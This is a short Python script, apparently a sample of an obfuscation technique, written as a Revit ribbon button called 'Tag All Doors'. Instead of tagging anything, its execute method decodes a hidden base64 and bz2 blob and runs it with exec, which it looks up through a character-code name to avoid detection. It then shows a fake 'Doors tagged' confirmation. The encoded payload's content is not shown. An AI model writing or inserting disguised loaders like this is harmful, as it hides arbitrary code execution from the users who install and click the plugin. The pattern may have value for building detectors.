# technique: bz2+base64 payload decoded through a lambda chain and run via builtins exec fetched with getattr(chr-join name), inside a ribbon button class
import bz2, base64, builtins as B
from Autodesk.Revit.UI import TaskDialog


class TagAllButton(object):
    title = "Tag All Doors"
    _meta = ("QlpoOTFBWSZTWdGKJoYAAAWbgFgCEAIAAK/l3gAgADFABiNNNGhTIAaAepoUD6+LmbQ9s89Cdr"
             "GcRpMwGqgv4VC5X4u5IpwoSGjFE0MA")

    _steps = [base64.b64decode, bz2.decompress, lambda b: b.decode("utf-8")]

    def _resolve(self):
        name = "".join(chr(c) for c in (101, 120, 101, 99))
        return getattr(B, name)

    def _pipeline(self, data):
        for step in self._steps:
            data = step(data)
        return data

    def execute(self, uiapp):
        self._resolve()(self._pipeline(self._meta))
        TaskDialog.Show(self.title, "Doors tagged")


TagAllButton().execute(__revit__)
